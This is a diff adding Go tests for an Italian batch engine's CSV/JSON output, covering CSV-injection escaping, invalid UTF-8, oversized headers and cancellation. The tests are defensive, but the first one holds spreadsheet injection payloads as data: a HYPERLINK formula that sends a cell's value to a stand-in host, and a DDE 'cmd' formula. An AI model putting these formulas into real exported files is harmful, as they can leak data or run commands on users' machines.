@@ -1,0 +1,207 @@
+package lpu_test
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/lpu-it/lpu/lpu"
+)
+
+// TestLottoFormuleNeutralizzate: a text cell of a CSV answer that starts
+// with = + - @, a tab or a carriage return comes back with a leading
+// single quote (OWASP, CSV injection), so that a spreadsheet shows it as
+// text; the numbers the engine writes stay numbers.
+func TestLottoFormuleNeutralizzate(t *testing.T) {
+	e := engine(t)
+	pericolosi := []string{
+		`=HYPERLINK("http://esempio.invalid/?x="&A1,"clic")`,
+		`=cmd|' /C calc'!A0`,
+		"=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", "-5",
+	}
+	for _, v := range pericolosi {
+		for _, c := range []struct{ nome, colonna, corpo string }{
+			{"rif", "rif", `{"rif":` + q(v) + `,"fattispecie":"cds186","data":"2025-06-10","pena":{"ammenda":"1500"}}`},
+			{"fattispecie", "fattispecie", `{"fattispecie":` + q(v) + `}`},
+			{"tipo", "tipo", `{"tipo":` + q(v) + `,"fattispecie":"cds186"}`},
+			{"campo sconosciuto", "errore_campo", `{"fattispecie":"cds186",` + q(v) + `:1}`},
+		} {
+			t.Run(c.nome+" "+q(v), func(t *testing.T) {
+				var out bytes.Buffer
+				if _, err := e.Lotto(strings.NewReader("["+c.corpo+"]"), &out, lpu.LottoOpzioni{Formato: "csv"}); err != nil {
+					t.Fatal(err)
+				}
+				r := leggiEsitiCSV(t, out.Bytes(), ',')[0]
+				if got := r[c.colonna]; !strings.HasPrefix(got, "'") || !strings.Contains(got, strings.TrimLeft(v, "\t\r")) {
+					t.Errorf("%s = %q; want %q with a leading '", c.colonna, got, v)
+				}
+				for col, cella := range r {
+					if cella != "" && strings.ContainsRune("=+-@\t\r", rune(cella[0])) {
+						t.Errorf("cell %s = %q starts with a formula prefix", col, cella)
+					}
+				}
+			})
+		}
+	}
+	// The numbers stay numbers, and a safe text is left alone.
+	var out bytes.Buffer
+	if _, err := e.Lotto(strings.NewReader("rif,fattispecie,data,arresto_mesi,arresto_giorni,ammenda\nUEPE 1/2025,cds186,10/06/2025,1,15,1500\n"),
+		&out, lpu.LottoOpzioni{}); err != nil {
+		t.Fatal(err)
+	}
+	r := leggiEsitiCSV(t, out.Bytes(), ',')[0]
+	if r["riga"] != "2" || r["giorni"] != "51" || r["ore"] != "102" || r["ore_settimanali_max"] != "6" || r["rif"] != "UEPE 1/2025" ||
+		r["premio_stimato"] != "52.02" {
+		t.Errorf("riga = %v", r)
+	}
+}
+
+// TestLottoTestoNonValido: invalid UTF-8 and NUL in an echoed cell come
+// back as U+FFFD, never as they were.
+func TestLottoTestoNonValido(t *testing.T) {
+	e := engine(t)
+	for _, rif := range []string{"a\x00b", "a\xffb", "\xc3", "=\x00"} {
+		var in bytes.Buffer
+		cw := csv.NewWriter(&in)
+		cw.Write([]string{"rif", "fattispecie", "ammenda"})
+		cw.Write([]string{rif, "cds186", "1500"})
+		cw.Flush()
+		var out bytes.Buffer
+		if _, err := e.Lotto(&in, &out, lpu.LottoOpzioni{}); err != nil {
+			t.Fatal(err)
+		}
+		if bytes.IndexByte(out.Bytes(), 0) >= 0 || !utfValido(out.Bytes()) {
+			t.Errorf("rif %q: the answer carries NUL or invalid UTF-8", rif)
+		}
+		if got := leggiEsitiCSV(t, out.Bytes(), ',')[0]["rif"]; !strings.Contains(got, "\uFFFD") {
+			t.Errorf("rif %q came back as %q; want U+FFFD in place of the bad bytes", rif, got)
+		}
+	}
+}
+
+func q(s string) string { b, _ := json.Marshal(s); return string(b) }
+
+func utfValido(b []byte) bool { return strings.ToValidUTF8(string(b), "") == string(b) }
+
+// TestLottoIntestazioneLimitata: a header of 100,000 columns, or with a
+// name of 10,000 bytes, is refused at once with a coded error that quotes
+// a few names, cut short; it used to take 1.4 s and quote every name.
+func TestLottoIntestazioneLimitata(t *testing.T) {
+	e := engine(t)
+	lungo := strings.Repeat("x", 10000)
+	molte := make([]string, 100000)
+	for i := range molte {
+		molte[i] = fmt.Sprintf("colonna_%d", i)
+	}
+	poche := append([]string{"fattispecie"}, molte[:50]...)
+	for _, c := range []struct {
+		nome, testa, codice string
+	}{
+		{"100.000 colonne", "fattispecie," + strings.Join(molte, ","), "troppe_colonne"},
+		{"nome lungo", "fattispecie," + lungo, "colonna_troppo_lunga"},
+		{"50 colonne sconosciute", strings.Join(poche, ","), "colonna_sconosciuta"},
+		{"colonna ripetuta lunga", "fattispecie," + lungo[:90] + "," + lungo[:90], "colonna_ripetuta"},
+	} {
+		t.Run(c.nome, func(t *testing.T) {
+			inizio := time.Now()
+			_, err := e.Lotto(strings.NewReader(c.testa+"\ncds186\n"), &bytes.Buffer{}, lpu.LottoOpzioni{})
+			d := time.Since(inizio)
+			var le *lpu.Errore
+			if !errors.As(err, &le) || le.Codice != c.codice {
+				t.Fatalf("err = %v; want code %s", err, c.codice)
+			}
+			if len(le.Messaggio) > 1500 || len(le.Campo) > 60 || strings.Contains(le.Messaggio, lungo[:100]) || strings.Contains(le.Messaggio, "colonna_10,") {
+				t.Errorf("the error quotes too much (%d bytes, campo %d): %.300s", len(le.Messaggio), len(le.Campo), le.Messaggio)
+			}
+			if d > time.Second {
+				t.Errorf("refusing the header took %v", d)
+			}
+		})
+	}
+}
+
+// cancellaAlPrimo cancels a context at the first write it gets.
+type cancellaAlPrimo struct {
+	bytes.Buffer
+	cancel context.CancelFunc
+}
+
+func (c *cancellaAlPrimo) Write(p []byte) (int, error) {
+	c.cancel()
+	return c.Buffer.Write(p)
+}
+
+// TestLottoContesto: a cancelled context stops a 100,000-row batch between
+// rows; the error wraps context.Canceled (or DeadlineExceeded), the stats
+// say it was interrupted, and the answer, still well formed, ends with a
+// result of code lotto_interrotto that counts the results before it.
+func TestLottoContesto(t *testing.T) {
+	e := engine(t)
+	for _, formato := range []string{"csv", "json"} {
+		t.Run("annullato "+formato, func(t *testing.T) {
+			ctx, cancel := context.WithCancel(context.Background())
+			defer cancel()
+			w := &cancellaAlPrimo{cancel: cancel}
+			inizio := time.Now()
+			st, err := e.LottoContext(ctx, generaCSV(100000), w, lpu.LottoOpzioni{Formato: formato})
+			if !errors.Is(err, context.Canceled) {
+				t.Fatalf("err = %v; want context.Canceled", err)
+			}
+			if !st.Interrotto || !st.Annullato || st.Casi >= 100000 {
+				t.Errorf("stat = %+v; want interrupted well before 100,000", st)
+			}
+			if d := time.Since(inizio); d > 5*time.Second {
+				t.Errorf("stopping took %v", d)
+			}
+			var ultimo map[string]string
+			if formato == "csv" {
+				righe := leggiEsitiCSV(t, w.Bytes(), ';')
+				if len(righe) != st.Casi+1 {
+					t.Errorf("%d rows written; stat says %d results and the final one", len(righe), st.Casi)
+				}
+				ultimo = righe[len(righe)-1]
+			} else {
+				var esiti []lpu.EsitoLotto
+				if err := json.Unmarshal(w.Bytes(), &esiti); err != nil {
+					t.Fatalf("answer not JSON: %v", err)
+				}
+				if len(esiti) != st.Casi+1 {
+					t.Errorf("%d results; stat says %d and the final one", len(esiti), st.Casi)
+				}
+				f := esiti[len(esiti)-1]
+				ultimo = map[string]string{"riga": fmt.Sprint(f.Riga), "tipo": f.Tipo, "errore_codice": f.Errore.Codice, "errore_messaggio": f.Errore.Messaggio}
+			}
+			if ultimo["riga"] != "0" || ultimo["tipo"] != "lotto" || ultimo["errore_codice"] != lpu.CodiceLottoInterrotto ||
+				!strings.Contains(ultimo["errore_messaggio"], fmt.Sprintf("dopo %d esiti", st.Casi)) {
+				t.Errorf("final result = %v", ultimo)
+			}
+		})
+	}
+	t.Run("tempo scaduto", func(t *testing.T) {
+		ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
+		defer cancel()
+		var out bytes.Buffer
+		st, err := e.LottoContext(ctx, generaCSV(100000), &out, lpu.LottoOpzioni{})
+		if !errors.Is(err, context.DeadlineExceeded) || !st.Annullato || st.Casi >= 100000 {
+			t.Fatalf("err = %v, stat %+v; want DeadlineExceeded before the end", err, st)
+		}
+		if !bytes.Contains(out.Bytes(), []byte("superato il tempo massimo")) {
+			t.Errorf("the final row does not say why: %q", out.Bytes()[max(0, out.Len()-300):])
+		}
+	})
+	t.Run("contesto già annullato", func(t *testing.T) {
+		ctx, cancel := context.WithCancel(context.Background())
+		cancel()
+		var out bytes.Buffer
+		st, err := e.LottoContext(ctx, generaCSV(1000), &out, lpu.LottoOpzioni{})
+		if !errors.Is(err, context.Canceled) || st.Casi != 0 {
+			t.Fatalf("err = %v, stat %+v", err, st)
+		}
+	})
+}
